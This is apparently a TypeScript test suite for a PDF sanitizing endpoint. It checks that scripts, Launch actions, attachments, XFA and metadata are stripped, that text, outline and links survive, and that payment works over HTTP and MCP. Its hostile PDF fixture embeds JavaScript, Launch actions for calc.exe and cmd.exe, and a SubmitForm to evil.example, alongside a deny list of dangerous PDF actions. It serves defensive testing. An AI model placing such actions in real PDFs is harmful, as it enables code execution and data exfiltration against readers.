// /v1/pdf/sanitize: scripts, automatic and dangerous actions, embedded files, XFA and metadata
// leave the file; text, images, outline and links stay. Shown on the hostile corpus with an
// independent reader: after sanitizing, qpdf's JSON of every object holds none of the removed
// kinds, no file fails with a 5xx, and a paid call for a file that fails charges nothing.
import Lab from '@hapi/lab';
import Code from '@hapi/code';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { PaymentRequired } from '@x402/core/types';
import { makePdf, textPages } from '../../support/pdf-fixtures.js';
import { runOperation } from '../../support/jobs.js';
import { tool, withFile } from '../../support/independent-tools.js';
import { startTestService, form, signOnBase, type TestService } from '../../support/service.js';
import { balancesOf } from '../../support/paying.js';

export const lab = Lab.script();
const { describe, it, before, after } = lab;
const { expect } = Code;

const corpus = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../../../../shared/corpus');

const REMOVED_ACTIONS = new Set(['/JavaScript', '/Launch', '/ImportData', '/SubmitForm', '/GoToR', '/GoToE']);
const REMOVED_KEYS = new Set(['/JS', '/AA', '/OpenAction', '/EmbeddedFiles', '/JavaScript', '/XFA', '/EF', '/AF', '/Metadata']);

/**
 * What qpdf finds in every object (and the trailer) of a PDF that sanitizing removes: each
 * finding names the object and the key or action. Undefined when qpdf cannot read the file.
 */
async function scan(pdf: Uint8Array, options: { links?: boolean } = {}): Promise<string[] | undefined> {
  return withFile(pdf, 'pdf', async (file, dir) => {
    const { out } = await tool('qpdf', ['--json=2', '--json-key=qpdf', file], dir);
    let objects: Record<string, { value?: unknown; stream?: { dict: unknown } }>;
    try {
      objects = (JSON.parse(out) as { qpdf: [unknown, typeof objects] }).qpdf[1];
    } catch {
      return undefined;
    }
    const found: string[] = [];
    const walk = (value: unknown, where: string): void => {
      if (Array.isArray(value)) { for (const v of value) walk(v, where); return; }
      if (!value || typeof value !== 'object') return;
      for (const [key, v] of Object.entries(value)) {
        if (REMOVED_KEYS.has(key)) found.push(`${where} ${key}`);
        if (key === '/S' && (REMOVED_ACTIONS.has(v as string) || (options.links && v === '/URI'))) found.push(`${where} /S ${String(v)}`);
        if ((key === '/Type' && v === '/EmbeddedFile') || (key === '/Subtype' && v === '/FileAttachment')) found.push(`${where} ${String(v)}`);
        walk(v, where);
      }
    };
    for (const [key, object] of Object.entries(objects)) {
      const value = object.value ?? object.stream?.dict;
      if (key === 'trailer' && (value as Record<string, unknown>)['/Info'] !== undefined) found.push('trailer /Info');
      walk(value, key);
    }
    return found;
  });
}

/**
 * A PDF with one of each: document JavaScript, an open action, page and link additional actions, a
 * Launch link, a URI link, an attachment, XFA, Info and XMP.
 */
async function hostileDocument(): Promise<Uint8Array> {
  const xmp = '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"></x:xmpmeta><?xpacket end="w"?>';
  const content = 'BT /F1 14 Tf 56 770 Td (Visible text stays) Tj ET';
  const attached = 'secret attachment';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /Outlines 8 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> /Names << /JavaScript << /Names [(init) << /S /JavaScript /JS (app.alert(2)) >>] >> /EmbeddedFiles << /Names [(a.txt) 9 0 R] >> >> /AcroForm << /Fields [] /XFA (<xdp/>) >> /Metadata 11 0 R /AA << /WC << /S /JavaScript /JS (app.alert(3)) >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /Annots [6 0 R 7 0 R 12 0 R] /AA << /O << /S /Launch /F (calc.exe) >> >> >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Annot /Subtype /Link /Rect [56 700 300 720] /Border [0 0 0] /A << /S /URI /URI (https://example.com/) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [56 650 300 670] /Border [0 0 0] /A << /S /Launch /F (cmd.exe) /Next << /S /SubmitForm /F (https://evil.example/) >> >> >>',
    '<< /Type /Outlines /First 13 0 R /Last 13 0 R /Count 1 >>',
    '<< /Type /Filespec /F (a.txt) /EF << /F 10 0 R >> >>',
    `<< /Type /EmbeddedFile /Length ${attached.length} >>\nstream\n${attached}\nendstream`,
    `<< /Type /Metadata /Subtype /XML /Length ${xmp.length} >>\nstream\n${xmp}\nendstream`,
    '<< /Type /Annot /Subtype /FileAttachment /Rect [400 400 420 420] /FS 9 0 R /Contents (attached) >>',
    '<< /Title (Chapter one) /Parent 8 0 R /Dest [3 0 R /XYZ 0 842 0] >>',
    '<< /Title (Secret title) /Author (Someone) >>',
  ];
  const body = objects.map((o, i) => `${i + 1} 0 obj\n${o}\nendobj\n`).join('');
  // No cross-reference table: qpdf rebuilds one, and its rewrite is the fixture.
  const raw = Buffer.from(`%PDF-1.7\n${body}trailer\n<< /Root 1 0 R /Info 14 0 R /Size 15 >>\n%%EOF\n`, 'latin1');
  return withFile(raw, 'pdf', async (file, dir) => {
    const out = path.join(dir, 'fixed.pdf');
    await tool('qpdf', [file, out], dir);
    return new Uint8Array(await readFile(out));
  });
}

async function sanitize(pdf: Uint8Array, fields: Record<string, string> = {}) {
  const { output, error } = await runOperation('pdf.sanitize', [pdf], fields);
  expect(error, error?.message).to.not.exist();
  return { pdf: output!.body, removed: output!.report as Record<string, number> };
}

async function facts(pdf: Uint8Array): Promise<{ text: string; outline: string; links: string }> {
  return withFile(pdf, 'pdf', async (file, dir) => ({
    text: (await tool('pdftotext', [file, '-'], dir)).out,
    outline: (await tool('mutool', ['show', file, 'outline'], dir)).out,
    links: (await tool('qpdf', ['--json=2', '--json-key=qpdf', file], dir)).out.includes('https://example.com/') ? 'uri' : '',
  }));
}

describe('sanitizing', () => {
  it('removes every kind from one document and says what it removed; text, outline and the web link stay', async () => {
    const pdf = await hostileDocument();
    expect((await scan(pdf))!.length).to.be.at.least(10);
    const { pdf: out, removed } = await sanitize(pdf);
    expect(removed).to.equal({
      info: 1, open_action: 1, javascript: 1, embedded_files: 2, xfa: 1, additional_actions: 2,
      launch: 1, xmp: 1, file_attachments: 1,
    });
    expect(await scan(out)).to.equal([]);
    const kept = await facts(out);
    expect(kept.text).to.contain('Visible text stays');
    expect(kept.outline).to.contain('Chapter one');
    expect(kept.links).to.equal('uri');
    expect(Buffer.from(out).toString('latin1')).to.not.contain('secret attachment');
  });

  it('keep_links=false removes the web links too', async () => {
    const { pdf: out, removed } = await sanitize(await hostileDocument(), { keep_links: 'false' });
    expect(removed.uri).to.equal(1);
    expect(await scan(out, { links: true })).to.equal([]);
    expect((await facts(out)).links).to.equal('');
  });

  it('a clean file comes back with {} removed', async () => {
    const { pdf: out, removed } = await sanitize(makePdf(textPages(2), { outline: true, link: true }));
    expect(removed).to.equal({});
    expect((await facts(out)).text).to.contain('quick brown fox');
  });

  it('the hostile corpus: none of the removed kinds left in any object, never a 5xx', { timeout: 600_000 }, async () => {
    const dirs = [path.join(corpus, 'robustness'), ...(await readdir(path.join(corpus, 'sample-files'))).filter((d) => /^\d{3}-/.test(d)).map((d) => path.join(corpus, 'sample-files', d))];
    const files: string[] = [];
    for (const dir of dirs) for (const name of (await readdir(dir)).filter((n) => n.toLowerCase().endsWith('.pdf')).sort()) files.push(path.join(dir, name));
    const problems: string[] = [];
    let cleaned = 0;
    let refused = 0;
    for (const file of files) {
      const bytes = new Uint8Array(await readFile(file));
      const name = path.relative(corpus, file);
      // Only files that hold something to remove (as qpdf reads them) and every tenth of the rest.
      const before = await scan(bytes);
      if (before === undefined || (before.length === 0 && files.indexOf(file) % 10 !== 0)) continue;
      const { output, error } = await runOperation('pdf.sanitize', [bytes], {}, { timeoutMs: 60_000 });
      if (error) {
        if (error.status < 400 || error.status >= 500) problems.push(`${name}: ${error.code} ${error.message}`);
        refused += 1;
        continue;
      }
      const after = await scan(output!.body);
      if (after === undefined) problems.push(`${name}: the sanitized file does not open in qpdf`);
      else if (after.length > 0) problems.push(`${name}: ${after.slice(0, 3).join('; ')}`);
      if (before.length > 0) cleaned += 1;
    }
    console.log(`\n  sanitize on the corpus: ${cleaned} files held removable kinds and were cleaned, ${refused} refused with a 4xx`);
    expect(problems).to.equal([]);
    expect(cleaned).to.be.at.least(40);
  });
});

describe('sanitizing paid over HTTP on the local Base chain, and over MCP', () => {
  let t: TestService;
  let pdf: Uint8Array;
  before(async () => { t = await startTestService(); pdf = await hostileDocument(); });
  after(async () => { await t?.stop(); });

  it('HTTP: charged 0.005 USD per page, the PDF as the body, the removals in Paydoc-Removed', async () => {
    const payFetch = await t.payFetch('base');
    const before = await balancesOf(t.evm);
    const res = await payFetch(`${t.url}/v1/pdf/sanitize`, { method: 'POST', body: form([{ bytes: pdf, name: 'a.pdf' }]) });
    expect(res.status).to.equal(200);
    expect(res.headers.get('content-type')).to.equal('application/pdf');
    expect(JSON.parse(res.headers.get('paydoc-removed')!)).to.include({ javascript: 1, open_action: 1, launch: 1 });
    expect(await scan(new Uint8Array(await res.arrayBuffer()))).to.equal([]);
    const charged = await balancesOf(t.evm);
    expect(before.payer - charged.payer).to.equal(5000n);
    expect(charged.payTo - before.payTo).to.equal(5000n);
  });

  it('MCP: the same JSON beside the file', async () => {
    const client = new Client({ name: 'paydoc-test', version: '1.0.0' });
    await client.connect(new StreamableHTTPClientTransport(new URL(`${t.url}/mcp`)));
    try {
      const args = { file: { data: Buffer.from(pdf).toString('base64') }, keep_links: 'false' };
      const unpaid = await client.callTool({ name: 'svc_pdf_sanitize', arguments: args }) as { structuredContent?: Record<string, unknown> };
      const quote = unpaid.structuredContent as unknown as PaymentRequired;
      expect(quote.accepts[0].amount).to.equal('5000');
      const paid = await client.callTool({ name: 'svc_pdf_sanitize', arguments: args, _meta: { 'x402/payment': await signOnBase(quote, t.evm.payerKey) } }) as {
        isError?: boolean; structuredContent?: { removed: Record<string, number> };
        content: Array<{ type: string; resource?: { blob?: string } }>;
      };
      expect(paid.isError).to.not.equal(true);
      expect(paid.structuredContent!.removed).to.include({ uri: 1, javascript: 1 });
      const blob = paid.content.find((c) => c.type === 'resource')!.resource!.blob!;
      expect(await scan(Buffer.from(blob, 'base64'), { links: true })).to.equal([]);
    } finally {
      await client.close();
    }
  });
});
